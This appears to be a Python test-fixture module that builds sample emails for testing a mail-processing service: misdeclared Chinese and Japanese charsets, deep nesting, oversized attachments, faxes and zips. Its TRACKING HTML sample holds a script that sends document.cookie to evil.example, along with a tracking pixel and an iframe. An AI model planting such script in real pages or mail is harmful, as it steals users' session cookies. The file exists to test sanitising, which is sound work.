"""Mails as they come in: of every charset and its liars, nested, cut off, enormous, and made to do harm.

Files in `mails/` are in the manner of well-known programs; what is binary or large is made here.
"""

from base64 import b64encode
from email.message import EmailMessage
from io import BytesIO
from pathlib import Path
from zipfile import ZipFile

from PIL import Image

MAILS = Path(__file__).parent / "mails"
CHINESE = "您好，我的帳號無法登入，請協助處理。船舶進港申請單 AA-01 於昨日送出後仍未收到回覆。"
SIMPLIFIED = "您好，我的账号无法登录，请协助处理。船舶进港申请单昨天提交后仍未收到回复。"
JAPANESE = "お世話になっております。入港届の件でお問い合わせいたします。"


def of_file(name):
    return (MAILS / f"{name}.eml").read_bytes()


def with_body(
    body,
    content_type="text/plain",
    *,
    more="",
    sender="Clerk <clerk@agency.example>",
    number=1,
    encoding="8bit",
):
    if isinstance(body, str):
        body = body.encode()
    head = (
        f"From: {sender}\r\nTo: service@mtnet.example\r\nSubject: hello\r\nMessage-ID: <m{number}@agency.example>\r\n"
        f"Date: Thu, 26 Nov 2026 09:00:00 +0800\r\nMIME-Version: 1.0\r\nContent-Type: {content_type}\r\n"
        f"Content-Transfer-Encoding: {encoding}\r\n{more}\r\n"
    )
    return head.encode("utf-8", "surrogateescape") + body


def multipart(*parts, kind="mixed"):
    """Each part: bytes with its own headers."""
    body = b"".join(b"--b\r\n" + part + b"\r\n" for part in parts) + b"--b--\r\n"
    return with_body(body, f'multipart/{kind}; boundary="b"')


def text_part(text="See the file.", kind="text/plain; charset=utf-8"):
    return f"Content-Type: {kind}\r\n\r\n".encode() + text.encode()


def file_part(name, content, kind="application/octet-stream"):
    head = (
        f'Content-Type: {kind}; name="{name}"\r\nContent-Disposition: attachment; filename="{name}"\r\n'
        "Content-Transfer-Encoding: base64\r\n\r\n"
    )
    lines = b64encode(content)
    return head.encode() + b"\r\n".join(lines[at : at + 76] for at in range(0, len(lines), 76))


def nested(depth):
    head = (
        b"From: a@agency.example\r\nTo: service@mtnet.example\r\nSubject: nested\r\n"
        b"Message-ID: <nested@x.example>\r\nMIME-Version: 1.0\r\n"
    )
    opened = b"".join(
        f"Content-Type: multipart/mixed; boundary=b{n}\r\n\r\n--b{n}\r\n".encode() for n in range(depth)
    )
    closed = b"".join(f"\r\n--b{n}--".encode() for n in reversed(range(depth)))
    return head + opened + b"Content-Type: text/plain\r\n\r\ndeep inside\r\n" + closed


def with_thirty_megabytes():
    return multipart(
        text_part("Nine files, and one that is too large."),
        *(
            file_part(f"scan{n}.pdf", b"%PDF-1.7\n" + bytes([n]) * 1_700_000, "application/pdf")
            for n in range(9)
        ),
        file_part("all.pdf", b"%PDF-1.7\n" + b"x" * (10 * 1024 * 1024 + 1), "application/pdf"),
    )


TRACKING = """<html><head><title>Newsletter</title><style>p {color: red}</style></head><body>
<script>document.location = 'https://evil.example/' + document.cookie</script>
<p onclick="alert(1)">The form <b>AA-01</b> fails.</p><img src="https://evil.example/pixel.gif?who=desk" width="1">
<iframe src="https://evil.example"></iframe><p>Second paragraph.<br>Next line.</p>
<div style="display:none">not shown to anybody</div></body></html>"""


def a_fax(
    pages=2, sender="+886227065678@fax.example", number=1, document=None, name="fax.tiff", kind="image/tiff"
):
    mail = EmailMessage()
    mail["From"], mail["To"], mail["Subject"] = sender, "fax@mtnet.example", "Fax"
    mail["Message-ID"] = f"<fax{number}@fax.example>"
    mail.set_content("A fax has come in.")
    maintype, _, subtype = kind.partition("/")
    mail.add_attachment(tiff(pages) if document is None else document, maintype, subtype, filename=name)
    return mail.as_bytes()


def tiff(pages, dpi=(204, 196)):
    sheets = [Image.new("1", (1728, 2200), 1) for _ in range(pages)]
    for number, sheet in enumerate(sheets):
        sheet.paste(0, (100 + 200 * number, 100, 300 + 200 * number, 300))
    output = BytesIO()
    sheets[0].save(output, "TIFF", save_all=True, append_images=sheets[1:], compression="group4", dpi=dpi)
    return output.getvalue()


def a_zip(*names):
    output = BytesIO()
    with ZipFile(output, "w") as archive:
        for name in names:
            archive.writestr(name, b"content")
    return output.getvalue()


def simple(
    number=1,
    text="The portal does not open.",
    sender="clerk@agency.example",
    subject="Portal",
    to="service@mtnet.example",
    **headers,
):
    mail = EmailMessage()
    mail["From"], mail["To"], mail["Subject"] = sender, to, subject
    mail["Message-ID"] = f"<simple{number}@agency.example>"
    for name, value in headers.items():
        mail[name.replace("_", "-")] = value
    mail.set_content(text)
    return mail.as_bytes()


# name → (bytes, what stands in the text)
CHARSETS = {
    "utf-8": (with_body(CHINESE, "text/plain; charset=utf-8"), CHINESE),
    "big5": (with_body(CHINESE.encode("cp950"), "text/plain; charset=big5"), CHINESE),
    "gb18030": (with_body(SIMPLIFIED.encode("gb18030"), "text/plain; charset=GB18030"), SIMPLIFIED),
    "iso-2022-jp": (with_body(JAPANESE.encode("iso2022_jp"), "text/plain; charset=ISO-2022-JP"), JAPANESE),
    "iso-2022-jp undeclared": (with_body(JAPANESE.encode("iso2022_jp"), "text/plain"), JAPANESE),
    "big5 that says it is utf-8": (with_body(CHINESE.encode("cp950"), "text/plain; charset=utf-8"), CHINESE),
    "big5 that says it is latin": (
        with_body(CHINESE.encode("cp950"), "text/plain; charset=iso-8859-1"),
        CHINESE,
    ),
    "big5 that says nothing": (with_body(CHINESE.encode("cp950"), "text/plain"), CHINESE),
    "gb18030 that says it is big5": (
        with_body(SIMPLIFIED.encode("gb18030"), "text/plain; charset=big5"),
        SIMPLIFIED,
    ),
    "gb18030 that says nothing": (with_body(SIMPLIFIED.encode("gb18030"), "text/plain"), SIMPLIFIED),
    "big5 that says it is gb2312": (
        with_body(CHINESE.encode("cp950"), "text/plain; charset=gb2312"),
        CHINESE,
    ),
    "utf-8 that says it is ascii": (with_body(CHINESE, "text/plain; charset=us-ascii"), CHINESE),
    "utf-8 that says it is big5": (with_body(CHINESE, "text/plain; charset=big5"), CHINESE),
    "a charset that nobody knows": (with_body(CHINESE, "text/plain; charset=x-unknown-8"), CHINESE),
    "a codec that is no charset": (with_body(CHINESE, "text/plain; charset=base64"), CHINESE),
    "utf-8 with a mark": (with_body(b"\xef\xbb\xbf" + CHINESE.encode(), "text/plain"), CHINESE),
    "latin": (
        with_body("Überprüfung à Genève".encode("latin-1"), "text/plain; charset=iso-8859-1"),
        "Überprüfung à Genève",
    ),
}
